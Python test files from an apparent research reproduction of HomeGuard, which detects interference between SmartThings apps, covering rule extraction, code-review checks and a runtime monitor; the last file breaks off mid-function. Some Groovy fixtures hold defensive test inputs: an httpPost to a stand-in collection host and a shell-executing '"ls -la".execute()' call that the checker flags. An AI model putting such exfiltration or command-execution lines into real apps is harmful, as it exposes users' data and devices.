    assert len(rule.condition.predicate_constraints) == 2


def test_negated_branch_constraint():
    source = app('''
input "mode1", "mode"
def installed() { subscribe(sw1, "switch.on", handler) }
def handler(evt) {
    if (location.mode == mode1) {
        return
    }
    sw2.on()
}
''', SWITCH_INPUTS)
    rules = extract_rules(source).rules
    assert len(rules) == 1
    predicate = rules[0].condition.predicate_constraints[0]
    assert isinstance(predicate, BinExpr)
    assert predicate.op == "!="  # negation folded into the comparison


def test_runin_delay_recorded_as_when():
    source = app('''
def installed() { subscribe(sw1, "switch.on", handler) }
def handler(evt) { runIn(300, turnOff) }
def turnOff() { sw2.off() }
''', SWITCH_INPUTS)
    rule = extract_rules(source).rules[0]
    assert rule.action.when == 300.0
    assert rule.action.command == "off"


def test_runin_with_computed_delay():
    source = app('''
input "minutes", "number"
def installed() { subscribe(sw1, "switch.on", handler) }
def handler(evt) { runIn(minutes * 60, turnOff) }
def turnOff() { sw2.off() }
''', SWITCH_INPUTS)
    rule = extract_rules(source).rules[0]
    # Symbolic delay: kept as an expression, not a number.
    assert not isinstance(rule.action.when, float)


def test_run_every_creates_scheduled_rule():
    source = app('''
def installed() { runEvery5Minutes(poll) }
def poll() { sw1.off() }
''', SWITCH_INPUTS)
    rule = extract_rules(source).rules[0]
    assert rule.trigger.subject == "time"
    assert rule.trigger.attribute == "every5Minutes"
    assert rule.action.period == 300.0


def test_schedule_daily_rule():
    source = app('''
input "when1", "time"
def installed() { schedule(when1, fire) }
def fire() { sw1.on() }
''', SWITCH_INPUTS)
    rule = extract_rules(source).rules[0]
    assert rule.trigger.is_scheduled
    assert rule.action.period == 86400.0


def test_rundaily_undocumented_api_is_modeled():
    source = app('''
input "when1", "time"
def installed() { runDaily(when1, fire) }
def fire() { sw1.on() }
''', SWITCH_INPUTS)
    rules = extract_rules(source).rules
    assert len(rules) == 1
    assert rules[0].trigger.attribute == "runDaily"


def test_location_mode_subscription():
    source = app('''
def installed() { subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (evt.value == "Away") sw1.off()
}
''', SWITCH_INPUTS)
    rule = extract_rules(source).rules[0]
    assert rule.trigger.subject == "location"
    assert rule.trigger.attribute == "mode"


def test_set_location_mode_is_sink():
    source = app('''
input "m1", "mode"
def installed() { subscribe(sw1, "switch.on", handler) }
def handler(evt) { setLocationMode(m1) }
''', SWITCH_INPUTS)
    rule = extract_rules(source).rules[0]
    assert rule.action.subject == "location"
    assert rule.action.command == "setLocationMode"
    assert isinstance(rule.action.params[0], UserInput)


def test_send_sms_is_sink():
    source = app('''
input "phone1", "phone"
def installed() { subscribe(sw1, "switch.on", handler) }
def handler(evt) { sendSms(phone1, "switched on") }
''', SWITCH_INPUTS)
    rule = extract_rules(source).rules[0]
    assert rule.action.subject == "notification"
    assert rule.action.command == "sendSms"


def test_http_post_is_sink():
    source = app('''
def installed() { subscribe(sw1, "switch.on", handler) }
def handler(evt) { httpPost("http://x.example/collect", "data") }
''', SWITCH_INPUTS)
    rule = extract_rules(source).rules[0]
    assert rule.action.subject == "network"
    assert rule.action.command == "httpPost"


def test_multiple_sinks_on_one_path_yield_multiple_rules():
    source = app('''
input "lock1", "capability.lock"
def installed() { subscribe(sw1, "switch.on", handler) }
def handler(evt) {
    sw2.on()
    lock1.unlock()
}
''', SWITCH_INPUTS)
    rules = extract_rules(source).rules
    assert {rule.action.command for rule in rules} == {"on", "unlock"}


def test_device_group_each_closure():
    source = app('''
input "switches", "capability.switch", multiple: true
def installed() { subscribe(sw1, "switch.on", handler) }
def handler(evt) { switches.each { s -> s.off() } }
''', SWITCH_INPUTS)
    rules = extract_rules(source).rules
    assert rules[0].action.subject == "switches"
    assert rules[0].action.device.multiple


def test_command_on_group_directly():
    source = app('''
input "switches", "capability.switch", multiple: true
def installed() { subscribe(sw1, "switch.on", handler) }
def handler(evt) { switches.off() }
''', SWITCH_INPUTS)
    assert extract_rules(source).rules[0].action.subject == "switches"


def test_switch_statement_branches():
    source = app('''
def installed() { subscribe(sw1, "switch", handler) }
def handler(evt) {
    switch (evt.value) {
        case "on":
            sw2.on()
            break
        case "off":
            sw2.off()
            break
    }
}
''', SWITCH_INPUTS)
    rules = extract_rules(source).rules
    assert len(rules) == 2


def test_ternary_forks_paths():
    source = app('''
input "level1", "number"
input "dimmer1", "capability.switchLevel"
def installed() { subscribe(sw1, "switch.on", handler) }
def handler(evt) {
    def lvl = (location.mode == "Night") ? 10 : level1
    dimmer1.setLevel(lvl)
}
''', SWITCH_INPUTS)
    rules = extract_rules(source).rules
    assert len(rules) == 2
    params = {str(rule.action.params[0]) for rule in rules}
    assert "10" in params


def test_data_constraints_record_variable_definitions():
    source = app('''
input "tSensor", "capability.temperatureMeasurement"
input "limit", "number"
def installed() { subscribe(sw1, "switch.on", handler) }
def handler(evt) {
    def t = tSensor.currentValue("temperature")
    if (t > limit) sw2.on()
}
''', SWITCH_INPUTS)
    rule = extract_rules(source).rules[0]
    names = {constraint.name for constraint in rule.condition.data_constraints}
    assert "t" in names
    assert "tSensor.temperature" in names  # the #DevState marker
    assert "limit" in names                # the #UserInput marker


def test_state_variable_is_symbolic_input():
    source = app('''
def installed() { subscribe(sw1, "switch.on", handler) }
def handler(evt) {
    if (state.enabled) sw2.on()
}
''', SWITCH_INPUTS)
    rule = extract_rules(source).rules[0]
    predicate = rule.condition.predicate_constraints[0]
    assert "state.enabled" in str(predicate)


def test_state_write_then_read_in_same_path():
    source = app('''
def installed() { subscribe(sw1, "switch.on", handler) }
def handler(evt) {
    state.count = 5
    if (state.count > 3) sw2.on()
}
''', SWITCH_INPUTS)
    rules = extract_rules(source).rules
    # 5 > 3 folds to true: exactly one unconditional rule.
    assert len(rules) == 1
    assert rules[0].condition.predicate_constraints == ()


def test_helper_method_inlined():
    source = app('''
def installed() { subscribe(sw1, "switch.on", handler) }
def handler(evt) { doIt() }
def doIt() { sw2.on() }
''', SWITCH_INPUTS)
    assert extract_rules(source).rules[0].action.command == "on"


def test_helper_with_return_value():
    source = app('''
input "limit", "number"
input "tSensor", "capability.temperatureMeasurement"
def installed() { subscribe(sw1, "switch.on", handler) }
def handler(evt) {
    if (hot()) sw2.on()
}
def hot() {
    return tSensor.currentValue("temperature") > limit
}
''', SWITCH_INPUTS)
    rule = extract_rules(source).rules[0]
    assert len(rule.condition.predicate_constraints) == 1


def test_recursion_depth_capped():
    source = app('''
def installed() { subscribe(sw1, "switch.on", handler) }
def handler(evt) { spin() }
def spin() { spin() }
''', SWITCH_INPUTS)
    extractor = RuleExtractor()
    report = extractor.extract_with_report(source)
    assert any("depth" in warning for warning in report.warnings)


def test_mutually_recursive_runin_capped():
    source = app('''
def installed() { subscribe(sw1, "switch.on", handler) }
def handler(evt) { runIn(1, a) }
def a() { sw2.on()
    runIn(1, b) }
def b() { sw2.off()
    runIn(1, a) }
''', SWITCH_INPUTS)
    report = RuleExtractor().extract_with_report(source)
    assert len(report.ruleset) >= 2  # finite set of rules despite the loop


def test_strict_mode_rejects_nonstandard_device_types():
    source = '''
definition(name: "FeedMyPetClone")
input "feeder", "device.petfeedershield"
def installed() { subscribe(feeder, "switch", h) }
def h(evt) { feeder.off() }
'''
    with pytest.raises(ExtractionError):
        RuleExtractor(strict_device_types=True).extract(source)
    # Tolerant mode (post paper-fix) succeeds.
    assert len(RuleExtractor().extract(source)) == 1


def test_parse_error_wrapped():
    with pytest.raises(ExtractionError):
        RuleExtractor().extract("def broken( {")


def test_app_name_inferred_from_definition():
    source = '''
definition(name: "MyGreatApp", author: "x")
input "sw1", "capability.switch"
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) { sw1.off() }
'''
    assert extract_rules(source).app_name == "MyGreatApp"


def test_explicit_app_name_overrides():
    source = 'definition(name: "Internal")\ninput "s", "capability.switch"\ndef installed() { }'
    assert extract_rules(source, "Override").app_name == "Override"


def test_installed_and_updated_subscriptions_deduplicated():
    source = app('''
def installed() { subscribe(sw1, "switch", h) }
def updated() { unsubscribe(); subscribe(sw1, "switch", h) }
def h(evt) { sw2.on() }
''', SWITCH_INPUTS)
    assert len(extract_rules(source).rules) == 1


def test_gstring_parameters_preserved():
    source = app('''
input "phone1", "phone"
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) { sendSms(phone1, "value is ${evt.value}") }
''', SWITCH_INPUTS)
    rule = extract_rules(source).rules[0]
    assert len(rule.action.params) == 2


def test_inputs_collected_inside_preferences_pages():
    source = '''
definition(name: "Paged")
preferences {
    page(name: "first") {
        section("Devices") {
            input "sw1", "capability.switch"
        }
    }
}
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) { sw1.off() }
'''
    ruleset = extract_rules(source)
    assert "sw1" in ruleset.inputs
    assert isinstance(ruleset.inputs["sw1"], DeviceRef)


def test_rule_devices_enumeration():
    source = app('''
input "tSensor", "capability.temperatureMeasurement"
input "limit", "number"
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) {
    if (tSensor.currentValue("temperature") > limit) sw2.on()
}
''', SWITCH_INPUTS)
    rule = extract_rules(source).rules[0]
    names = {ref.name for ref in rule.devices()}
    assert names == {"sw1", "sw2", "tSensor"}


def test_webservice_app_yields_no_rules():
    source = '''
definition(name: "WebOnly")
input "switches", "capability.switch", multiple: true
mappings {
    path("/switches") {
        action: [GET: "listSwitches"]
    }
}
def installed() { }
def listSwitches() { return switches }
'''
    assert len(extract_rules(source)) == 0


def test_current_attribute_shorthand():
    source = app('''
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) {
    if (sw2.currentSwitch == "off") sw2.on()
}
''', SWITCH_INPUTS)
    predicate = extract_rules(source).rules[0].condition.predicate_constraints[0]
    attr = predicate.left
    assert isinstance(attr, DeviceAttr)
    assert attr.attribute == "switch"
