"""Tests for the code-review checks (paper §VIII-D.2)."""

from repro.corpus import automation_apps, demo_apps
from repro.review import review_app


def test_clean_app_passes():
    source = '''
definition(name: "Clean")
input "sw1", "capability.switch"
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) { sw1.off() }
'''
    report = review_app(source, "Clean")
    assert report.passed
    assert report.findings == []


def test_banned_method_flagged():
    source = '''
definition(name: "Evil")
input "sw1", "capability.switch"
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) {
    "ls -la".execute()
}
'''
    report = review_app(source, "Evil")
    assert not report.passed
    assert any(f.check == "banned-method" for f in report.errors())


def test_dynamic_dispatch_flagged():
    source = '''
definition(name: "Reflective")
input "sw1", "capability.switch"
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) {
    sw1.invokeMethod("off", null)
}
'''
    report = review_app(source, "Reflective")
    assert not report.passed
    findings = {f.check for f in report.errors()}
    assert "dynamic-dispatch" in findings


def test_gstring_without_switch_warns():
    source = '''
definition(name: "Gstr")
input "sw1", "capability.switch"
def installed() { subscribe(sw1, "switch", h) }
def h(evt) {
    def cmd = "prefix-${evt.value}"
    doCommand(cmd)
}
def doCommand(c) { sw1.on() }
'''
    report = review_app(source, "Gstr")
    assert report.passed  # warning only
    assert any(f.check == "gstring-switch" for f in report.warnings())


def test_gstring_with_switch_is_clean():
    source = '''
definition(name: "GstrOk")
input "sw1", "capability.switch"
def installed() { subscribe(sw1, "switch", h) }
def h(evt) {
    def cmd = "prefix-${evt.value}"
    switch (cmd) {
        case "prefix-on":
            sw1.on()
            break
        case "prefix-off":
            sw1.off()
            break
    }
}
'''
    report = review_app(source, "GstrOk")
    assert not any(f.check == "gstring-switch" for f in report.findings)


def test_undeclared_identifier_warns():
    source = '''
definition(name: "Typo")
input "sw1", "capability.switch"
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) {
    sw2.off()
}
'''
    report = review_app(source, "Typo")
    warnings = [f for f in report.warnings() if f.check == "undeclared-identifier"]
    assert warnings
    assert "sw2" in warnings[0].message


def test_findings_carry_line_numbers():
    source = '''
definition(name: "L")
input "sw1", "capability.switch"
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) {
    "x".execute()
}
'''
    report = review_app(source, "L")
    assert report.errors()[0].line == 6


def test_whole_corpus_passes_review():
    # Every benign repository app must survive the platform's review;
    # this is also a regression net for the checks themselves.
    for app in automation_apps() + demo_apps():
        report = review_app(app.source, app.name)
        assert report.passed, (app.name, [str(f) for f in report.errors()])


def test_malicious_apps_pass_review_too():
    # The paper's core point: CAI-exploiting apps contain seemingly
    # benign logic and DO pass conventional code review — the banned
    # constructs are not what makes them dangerous.
    from repro.corpus import malicious_apps

    for app in malicious_apps():
        report = review_app(app.source, app.name)
        assert report.passed, app.name


def test_finding_str_format():
    source = '''
definition(name: "S")
input "sw1", "capability.switch"
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) { "x".execute() }
'''
    report = review_app(source, "S")
    text = str(report.errors()[0])
    assert "[error]" in text
    assert "banned-method" in text
