"""Runtime interference monitor (DESIGN.md §16).

Covers the window/baseline primitives, the shipped rule catalog
(threat-confirmation compilation plus the anomaly rules), the engine's
event-time clock and exactly-once dedup, trace replay vs. live-bus
equivalence, the evidence feedback loop into handling policies, and
the full acceptance path: a statically predicted threat whose witness
sequence is replayed through the monitor is confirmed exactly once,
the ``EvidencePolicy`` verdict escalates with persisted provenance,
observations survive a store save/load round-trip, and loopback
``FleetClient`` ingestion yields byte-identical observations to the
in-process call.  A chaos arm proves no observation is double-counted
under injected store-append and transport-write faults.
"""

import pytest

from repro.corpus import app_by_name
from repro.detector.types import Threat, ThreatType
from repro.monitor import (
    KIND_ANOMALY,
    KIND_CONFIRMED,
    KIND_CONTRADICTED,
    CommandLoopRule,
    ConfirmationRule,
    MonitorEngine,
    Observation,
    OffHoursRule,
    PowerAnomalyRule,
    RollingBaseline,
    SlidingWindow,
    ToggleSpamRule,
    compile_confirmations,
    default_anomaly_rules,
    threat_key,
)
from repro.resilience import RetryPolicy
from repro.rules.model import Action, Condition, DeviceRef, Rule, Trigger
from repro.runtime.events import Event, EventBus
from repro.service import (
    EvidencePolicy,
    HomeGuardService,
    InstallRequest,
    MonitorEventRequest,
    ObservationRecord,
    SeverityThresholdPolicy,
)
from repro.service.home import InstallReview
from repro.service.transport import FleetClient, serve_background
from repro.testing.faults import FaultPlan, FaultSpec

# Mid-day event time, so the off-hours anomaly rule stays quiet in
# tests that exercise other rules.
NOON = 12 * 3600.0


def ev(subject, name, value, ts):
    return Event(subject=subject, name=name, value=value, timestamp=ts)


# ----------------------------------------------------------------------
# Window primitives


def test_sliding_window_prunes_by_span():
    window = SlidingWindow(10.0)
    window.push(0.0, "a")
    window.push(5.0, "b")
    window.push(12.0, "c")
    assert [item for _ts, item in window.items()] == ["b", "c"]
    window.prune(30.0)
    assert len(window) == 0


def test_rolling_baseline_bounded_mean():
    baseline = RollingBaseline(size=3)
    for value in (10.0, 20.0, 30.0, 40.0):
        baseline.push(value)
    assert baseline.count == 3
    assert baseline.mean() == pytest.approx(30.0)


# ----------------------------------------------------------------------
# Rule catalog


def test_confirmation_rule_ordered_requires_sequence():
    rule = ConfirmationRule(
        "CT:A/R1->B/R1",
        ((("d1", "switch", "on"),), (("d2", "switch", "off"),)),
        window=100.0,
        ordered=True,
    )
    # Effect-of-B before effect-of-A: no confirmation.
    assert rule.observe(ev("d2", "switch", "off", 10.0), 10.0) == []
    assert rule.observe(ev("d1", "switch", "on", 20.0), 20.0) == []
    # Now the witness order: A then B fires exactly one finding.
    found = rule.observe(ev("d2", "switch", "off", 30.0), 30.0)
    assert len(found) == 1
    assert found[0].kind == KIND_CONFIRMED
    assert found[0].threat_key == "CT:A/R1->B/R1"


def test_confirmation_rule_unordered_and_window_expiry():
    rule = ConfirmationRule(
        "AR:A/R1->B/R1",
        ((("d1", "switch", "on"),), (("d1", "switch", "off"),)),
        window=50.0,
        ordered=False,
    )
    # Either order works for symmetric threats...
    assert rule.observe(ev("d1", "switch", "off", 10.0), 10.0) == []
    assert rule.observe(ev("d1", "switch", "on", 40.0), 40.0) != []
    # ...but stamps further apart than the window never complete.
    assert rule.observe(ev("d1", "switch", "off", 100.0), 100.0) == []
    assert rule.observe(ev("d1", "switch", "on", 200.0), 200.0) == []
    # The fresh stamp is kept: completing within the window still fires.
    assert rule.observe(ev("d1", "switch", "off", 230.0), 230.0) != []


def _rule(rule_id, app, device, command, capability="switch"):
    return Rule(
        app_name=app,
        rule_id=rule_id,
        trigger=Trigger(subject=device, attribute=capability),
        condition=Condition(),
        action=Action(
            subject=device,
            command=command,
            capability=capability,
            device=DeviceRef(name=device, capability=capability),
        ),
    )


def _threat(threat_type, rule_a, rule_b):
    return Threat(type=threat_type, rule_a=rule_a, rule_b=rule_b)


def test_compile_confirmations_resolves_devices_and_kinds():
    rule_a = _rule("A/R1", "A", "sw1", "on")
    rule_b = _rule("B/R1", "B", "sw2", "off")
    devices = {"A": {"sw1": "dev-9"}, "B": {"sw2": "dev-9"}}
    threats = [
        _threat(ThreatType.ACTUATOR_RACE, rule_a, rule_b),
        _threat(ThreatType.COVERT_TRIGGERING, rule_a, rule_b),
        _threat(ThreatType.DISABLING_CONDITION, rule_a, rule_b),
        # Duplicate key: compiled once.
        _threat(ThreatType.ACTUATOR_RACE, rule_a, rule_b),
    ]
    compiled = compile_confirmations(threats, devices)
    assert [c.threat_key for c in compiled] == [
        "AR:A/R1->B/R1", "CT:A/R1->B/R1", "DC:A/R1->B/R1",
    ]
    race, covert, disabling = compiled
    # Input names resolved to the bound home device id, effects to the
    # capability registry's attribute/value pairs.
    assert race.channels == frozenset({("dev-9", "switch")})
    assert race.ordered is False  # action interference is symmetric
    assert covert.ordered is True
    # A disabling-condition prediction inverts: seeing the sequence
    # contradicts the static verdict.
    assert disabling.kind == KIND_CONTRADICTED
    assert race.kind == KIND_CONFIRMED


def test_toggle_spam_fires_once_per_episode():
    rule = ToggleSpamRule(window=30.0, threshold=3)
    findings = []
    for i in range(8):
        findings += rule.observe(
            ev("sw1", "switch", "on", NOON + i), NOON + i
        )
    # 8 events, threshold 3: fires at the 4th event, window clears,
    # fires again at the 8th — one observation per episode.
    assert len(findings) == 2
    assert all(f.kind == KIND_ANOMALY for f in findings)


def test_power_anomaly_baseline_and_nonpositive():
    rule = PowerAnomalyRule(factor=1.5, min_samples=3)
    for i in range(3):
        assert rule.observe(ev("p1", "power", 100.0, NOON + i), NOON + i) == []
    spike = rule.observe(ev("p1", "power", 400.0, NOON + 10), NOON + 10)
    assert len(spike) == 1 and "exceeds" in spike[0].detail
    dead = rule.observe(ev("p1", "power", 0.0, NOON + 400), NOON + 400)
    assert len(dead) == 1 and "non-positive" in dead[0].detail


def test_off_hours_rule_one_finding_per_day():
    rule = OffHoursRule()
    assert rule.observe(ev("lock1", "lock", "unlocked", NOON), NOON) == []
    night = 3 * 3600.0
    first = rule.observe(ev("lock1", "lock", "unlocked", night), night)
    assert len(first) == 1 and first[0].dedup == "d0"
    next_night = 86400.0 + night
    second = rule.observe(
        ev("lock1", "lock", "unlocked", next_night), next_night
    )
    assert second[0].dedup == "d1"


def test_command_loop_detects_cycle():
    rule = CommandLoopRule(window=60.0, min_cycle=3)
    sequence = [("a", "switch"), ("b", "switch"), ("c", "switch"),
                ("a", "switch")]
    findings = []
    for i, (subject, attr) in enumerate(sequence):
        findings += rule.observe(
            ev(subject, attr, "on", NOON + i), NOON + i
        )
    assert len(findings) == 1
    assert "a.switch -> b.switch -> c.switch -> a.switch" in findings[0].detail
    # A two-channel ping-pong is below min_cycle: quiet.
    quiet_rule = CommandLoopRule(window=60.0, min_cycle=3)
    quiet = []
    for i, subject in enumerate(("a", "b", "a", "b", "a")):
        quiet += quiet_rule.observe(
            ev(subject, "switch", "on", NOON + i), NOON + i
        )
    assert quiet == []


# ----------------------------------------------------------------------
# Engine: clock, dedup, replay equivalence


def test_engine_event_time_clock_never_goes_backwards():
    engine = MonitorEngine("h1", default_anomaly_rules())
    engine.ingest(ev("sw1", "switch", "on", 100.0))
    engine.ingest(ev("sw1", "switch", "off", 40.0))  # late arrival
    assert engine.now() == 100.0


def test_engine_dedups_identical_observations():
    engine = MonitorEngine("h1", [OffHoursRule()])
    night = 3 * 3600.0
    first = engine.ingest(ev("lock1", "lock", "unlocked", night))
    again = engine.ingest(ev("lock1", "lock", "locked", night + 60))
    assert len(first) == 1 and again == []
    assert engine.counters()["anomalies"] == 1


def test_engine_seen_seed_prevents_reemission_after_rebuild():
    engine = MonitorEngine("h1", [OffHoursRule()])
    emitted = engine.ingest(ev("lock1", "lock", "unlocked", 3600.0))
    rebuilt = MonitorEngine(
        "h1", [OffHoursRule()], seen=[o.key for o in emitted]
    )
    assert rebuilt.ingest(ev("lock1", "lock", "unlocked", 3600.0)) == []


def test_replay_jsonl_matches_live_bus_tap():
    events = [
        ev("sw1", "switch", "on", NOON + i) for i in range(12)
    ] + [ev("p1", "power", 999.0, NOON + 20)]
    live = MonitorEngine("h1", default_anomaly_rules())
    bus = EventBus()
    live.attach(bus)
    for event in events:
        bus.publish(event)
    live_observations = live.drain()
    assert live_observations  # toggle spam fired
    lines = [
        '{"subject": "%s", "attribute": "%s", "value": "%s", '
        '"timestamp": %f}' % (e.subject, e.name, e.value, e.timestamp)
        for e in events
    ] + ["", "not json", '{"missing": "subject"}']
    replayed = MonitorEngine("h1", default_anomaly_rules())
    replay_observations = replayed.replay_jsonl(lines)
    assert [o.to_json() for o in replay_observations] == [
        o.to_json() for o in live_observations
    ]
    live.detach(bus)
    bus.publish(ev("sw9", "switch", "on", NOON + 100))
    assert live.drain() == []  # detached taps see nothing


def test_set_rules_preserves_dedup_state():
    engine = MonitorEngine("h1", [OffHoursRule()])
    assert engine.ingest(ev("lock1", "lock", "unlocked", 3600.0))
    engine.set_rules([OffHoursRule()])  # recompiled after an install
    assert engine.ingest(ev("lock1", "lock", "unlocked", 3700.0)) == []


# ----------------------------------------------------------------------
# Evidence feedback into handling policies


def _review_with(threat):
    review = InstallReview(app_name=threat.rule_b.app_name, rules=[])
    review.threats.append(threat)
    return review


def test_evidence_policy_escalates_and_downgrades():
    threat = _threat(
        ThreatType.ACTUATOR_RACE,
        _rule("A/R1", "A", "sw1", "on"),
        _rule("B/R1", "B", "sw1", "off"),
    )
    key = threat_key(threat)
    policy = EvidencePolicy(
        SeverityThresholdPolicy(threshold=5),
        escalate_by=2, downgrade_by=1, unconfirmed_after=1000.0,
    )
    assert policy.name == "evidence+severity-threshold"
    review = _review_with(threat)
    # No evidence: identical to the inner policy (AR severity 4 < 5).
    assert policy.decide_with_evidence(review, {}) is not None
    assert policy.worst_with_evidence(review, {}) == 4

    from repro.monitor import ThreatEvidence

    confirmed = {key: ThreatEvidence(confirmed=1)}
    assert policy.worst_with_evidence(review, confirmed) == 6
    assert policy.decide_with_evidence(review, confirmed).value == "delete"
    assert any("escalate" in note for note in policy.proposals(review, confirmed))

    contradicted = {key: ThreatEvidence(contradicted=2)}
    assert policy.worst_with_evidence(review, contradicted) == 3
    assert any(
        "downgrade" in note for note in policy.proposals(review, contradicted)
    )
    stale = {key: ThreatEvidence(watch_seconds=5000.0)}
    assert policy.worst_with_evidence(review, stale) == 3
    assert any("unconfirmed" in note for note in policy.proposals(review, stale))


# ----------------------------------------------------------------------
# Service integration: the acceptance loop


COMFORT_TV = dict(
    app_name="ComfortTV",
    devices={"tv1": "TV", "tSensor": "Temp", "window1": "Window"},
    values={"threshold1": 30},
)
COLD_DEFENDER = dict(
    app_name="ColdDefender",
    devices={"tv2": "TV", "window2": "Window"},
    values={"weather": "rainy"},
)


def evidence_service(**kwargs):
    kwargs.setdefault("workers", None)
    kwargs.setdefault(
        "policy", EvidencePolicy(SeverityThresholdPolicy(threshold=5))
    )
    service = HomeGuardService(**kwargs)
    service.preload([app_by_name("ComfortTV"), app_by_name("ColdDefender")])
    return service


def setup_home(service, home_id="h1"):
    service.create_home(home_id)
    service.register_device(home_id, "TV", "tv")
    service.register_device(home_id, "Temp", "temperatureSensor")
    window = service.register_device(home_id, "Window", "windowOpener")
    service.install(InstallRequest(home_id=home_id, **COMFORT_TV))
    session = service.install(InstallRequest(home_id=home_id, **COLD_DEFENDER))
    assert session.decision == "keep"  # AR severity 4 < threshold 5
    assert any(t.type == "AR" for t in session.report.threats)
    return window.device_id


def witness_request(home_id, window_id, batch_id="b-1"):
    """ComfortTV opens the window, ColdDefender closes it — the AR
    threat's witness sequence on the shared actuator."""
    return MonitorEventRequest(
        home_id=home_id,
        events=(
            (window_id, "switch", "on", NOON),
            (window_id, "switch", "off", NOON + 30.0),
        ),
        batch_id=batch_id,
    )


def test_predicted_threat_confirms_exactly_once_and_escalates(tmp_path):
    with evidence_service(store_root=tmp_path) as service:
        window_id = setup_home(service)
        request = witness_request("h1", window_id)
        produced = service.ingest_events(request)
        confirmed = [o for o in produced if o.outcome == "confirmed"]
        assert len(confirmed) == 1
        assert confirmed[0].threat_key.startswith("AR:")

        # Resending the batch (a transport retry) returns the original
        # observations byte-identically and counts nothing twice.
        replayed = service.ingest_events(request)
        assert [o.to_json() for o in replayed] == [
            o.to_json() for o in produced
        ]
        stats = service.detection_stats_record("h1")
        assert stats.monitor_events == 2
        assert stats.threats_confirmed == 1
        # Feeding the same witness sequence again (fresh batch) cannot
        # re-confirm: the confirmation is global per threat per home.
        later = service.ingest_events(
            MonitorEventRequest(
                home_id="h1",
                events=(
                    (window_id, "switch", "on", NOON + 900.0),
                    (window_id, "switch", "off", NOON + 930.0),
                ),
                batch_id="b-2",
            )
        )
        assert [o for o in later if o.outcome == "confirmed"] == []

        evidence = service.home("h1").evidence()
        ar_key = confirmed[0].threat_key
        assert evidence[ar_key].confirmed == 1

        # The evidence feedback loop: re-reviewing the same app now
        # escalates past the threshold, with policy provenance.
        session = service.install(InstallRequest(home_id="h1", **COLD_DEFENDER))
        assert session.decision == "delete"
        assert session.decided_by == "evidence+severity-threshold"
        persisted = service.home("h1").reviews[-1]
        assert persisted.decided_by == "evidence+severity-threshold"

    # Store save/load round-trip: a fresh service over the same store
    # restores the ledger byte-identically, evidence included.
    with evidence_service(store_root=tmp_path) as restored:
        restored.create_home("h1")
        restored.restore("h1")
        assert [o.to_json() for o in restored.observations("h1")] == [
            o.to_json() for o in produced
        ]
        assert restored.home("h1").evidence()[ar_key].confirmed == 1
        assert restored.home("h1").reviews[-1].decided_by == (
            "evidence+severity-threshold"
        )


def test_loopback_ingestion_is_byte_identical_to_in_process(tmp_path):
    with evidence_service(store_root=tmp_path / "wire") as wire_service:
        window_wire = setup_home(wire_service)
        with serve_background(wire_service) as background:
            with FleetClient(background.host, background.port) as client:
                over_wire = client.ingest_events(
                    witness_request("h1", window_wire)
                )
                listed = client.observations("h1")
                status = client.status()
        assert status.monitor_events == 2
        assert status.monitor_observations == len(over_wire)

    with evidence_service(store_root=tmp_path / "local") as local_service:
        window_local = setup_home(local_service)
        # Same registry, same install order: device ids line up.
        assert window_local == window_wire
        in_process = local_service.ingest_events(
            witness_request("h1", window_local)
        )

    assert [o.to_json() for o in over_wire] == [
        o.to_json() for o in in_process
    ]
    assert [o.to_json() for o in listed] == [o.to_json() for o in in_process]


def test_observation_record_wire_round_trip():
    observation = Observation(
        key="abc123", home_id="h1", rule="confirm:AR:A/R1->B/R1",
        kind="confirmed", subject="d1", threat_key="AR:A/R1->B/R1",
        detail="seen", timestamp=12.5, window_seconds=300.0,
    )
    record = ObservationRecord.from_observation(observation)
    assert record.outcome == "confirmed"
    assert ObservationRecord.from_json(record.to_json()) == record
    assert record.to_observation() == observation


# ----------------------------------------------------------------------
# Chaos arm: injected faults cannot double-count observations


def test_store_append_fault_then_retry_counts_once(tmp_path):
    with evidence_service(store_root=tmp_path) as service:
        window_id = setup_home(service)
        request = witness_request("h1", window_id)
        plan = FaultPlan([FaultSpec("store.append", kind="io-error", nth=(1,))])
        with plan:
            with pytest.raises(Exception):
                service.ingest_events(request)
            assert plan.fired("store.append") == 1
            # The client's retry of the failed batch succeeds and
            # returns the original observations — nothing is recounted.
            produced = service.ingest_events(request)
        confirmed = [o for o in produced if o.outcome == "confirmed"]
        assert len(confirmed) == 1
        stats = service.detection_stats_record("h1")
        assert stats.monitor_events == 2
        assert stats.threats_confirmed == 1
        ledger = service.observations("h1")
        assert len({o.key for o in ledger}) == len(ledger)

    # And the retried commit was durable: the ledger round-trips.
    with evidence_service(store_root=tmp_path) as restored:
        restored.create_home("h1")
        restored.restore("h1")
        assert [o.to_json() for o in restored.observations("h1")] == [
            o.to_json() for o in produced
        ]


def test_transport_write_fault_then_resend_counts_once(tmp_path):
    with evidence_service(store_root=tmp_path) as service:
        window_id = setup_home(service)
        request = witness_request("h1", window_id)
        with serve_background(service) as background:
            plan = FaultPlan(
                [FaultSpec("transport.write", kind="disconnect", nth=(1,))]
            )
            with plan:
                # Short timeout: the lost response surfaces quickly and
                # the client's reconnect path resends the same batch.
                with FleetClient(
                    background.host, background.port, timeout=2.0,
                    retry=RetryPolicy(attempts=3, base_delay=0.01),
                ) as client:
                    produced = client.ingest_events(request)
            assert plan.fired("transport.write") == 1
        confirmed = [o for o in produced if o.outcome == "confirmed"]
        assert len(confirmed) == 1
        stats = service.detection_stats_record("h1")
        # The server processed the batch at least twice (original plus
        # resend) but the dedup key admitted it exactly once.
        assert stats.monitor_events == 2
        assert stats.threats_confirmed == 1
        ledger = service.observations("h1")
        assert len({o.key for o in ledger}) == len(ledger)
