"""End-to-end tests: frontend app, UI rendering, HomeGuard facade."""

import pytest

from repro import HomeGuard, InstallDecision
from repro.corpus import app_by_name
from repro.detector.types import ThreatType
from repro.frontend import describe_threat, render_review
from repro.frontend.app import HomeGuardApp
from repro.rules.extractor import RuleExtractor


def fresh_homeguard():
    hg = HomeGuard(transport="http")
    hg.register_device("TV", "tv")
    hg.register_device("Temp", "temperatureSensor")
    hg.register_device("Window", "windowOpener")
